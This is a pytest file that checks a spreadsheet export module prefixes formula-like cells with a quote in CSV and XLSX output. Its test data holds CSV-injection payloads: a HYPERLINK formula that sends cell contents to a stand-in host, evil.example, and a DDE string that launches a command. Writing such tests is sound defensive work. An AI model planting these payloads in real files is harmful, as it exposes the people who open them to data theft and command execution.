"""Exported text is never run as a formula by the spreadsheet that opens the file."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from arusha import formula_safe
from arusha.importing import LoadRejected, load_sources
from tests.conftest import GOOD_ROW, write_csv

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Undervaluation = revenue loss", "Undervaluation = revenue loss"),
        ("-12.5", "-12.5"),
        ("+3e-05", "+3e-05"),
        ("", ""),
        (-4, -4),
        (None, None),
    ],
)
def test_it_escapes_text_that_starts_a_formula_and_nothing_else(value: object, written: object) -> None:
    assert formula_safe.csv_cell(value) == written


def test_the_csv_writer_escapes_every_cell_of_every_row() -> None:
    out = io.StringIO()
    writer = formula_safe.csv_writer(out)
    writer.writerow(["title", "score"])
    writer.writerows([[ATTACK, -1.5], ["@me", "-0.25"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["title", "score"], ["'" + ATTACK, "-1.5"], ["'@me", "-0.25"]]


def test_xlsx_text_is_stored_as_text_and_reads_back_unchanged() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["title", "owner"])
    sheet.append([ATTACK, "@head"])
    data = formula_safe.xlsx_bytes(book)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A2"]  # type: ignore[index]
    assert (cell.value, cell.data_type) == (ATTACK, "s")


def test_the_load_errors_file_escapes_the_values_from_the_upload(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "declarations.csv", [{**GOOD_ROW, "channel_assigned": ATTACK}])
    with pytest.raises(LoadRejected) as info:
        load_sources([path], tmp_path / "s.duckdb")
    errors_csv = info.value.result.errors_csv
    assert errors_csv is not None
    with errors_csv.open(newline="", encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["value"] == "'" + ATTACK
